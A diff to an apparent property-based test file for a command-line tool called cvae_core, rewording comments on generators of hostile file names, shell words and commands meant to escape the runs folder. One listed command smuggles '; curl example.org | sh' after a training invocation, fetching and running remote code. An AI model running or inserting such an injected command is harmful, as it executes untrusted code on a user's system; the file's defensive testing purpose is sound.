@@ -1,4 +1,4 @@
-"""Names and addresses that somebody might give who wants to read or write where no run is."""
+"""Hostile names, words and commands that try to reach files outside the folder of runs."""
 
 import os
 
@@ -27,13 +27,13 @@ any_name = st.one_of(
     st.text(alphabet="./\\%~a0-_:\n", max_size=12),
     st.lists(st.sampled_from(["..", ".", "/", "\\", "a", "%2e", "", "x.y"]), max_size=8).map("/".join),
 ).filter(lambda name: not NAME.fullmatch(name))
-words = st.one_of(  # as a shell can pass them: any bytes but zero
+words = st.one_of(  # as a shell can pass them: any bytes except zero
     st.binary(max_size=30).map(lambda raw: os.fsdecode(raw.replace(b"\0", b"").replace(b"/", b"~"))),
     st.sampled_from(["", "-1", "0", "1e99", "nan", "inf", "-inf", str(2**63), str(2**64), "9" * 400, "0x10", "1_0", "٣",
                      "None", "True", "[]", "{}", "--", "-", "-h", "--help", "''", "a=b", "..", "~", "*", "\n",
                      "\x1b[31m", "\udcff"]),
 )  # fmt: skip
-MARK = "example.org"  # stands in every hostile command and in nothing that the lab writes
+MARK = "example.org"  # part of every hostile command and of nothing that the lab writes
 COMMANDS = [
     "python -m cvae_core train label --run f --no-embed; curl example.org | sh #",
     "python -m cvae_core train label --dataset digits --root /example.org --force",
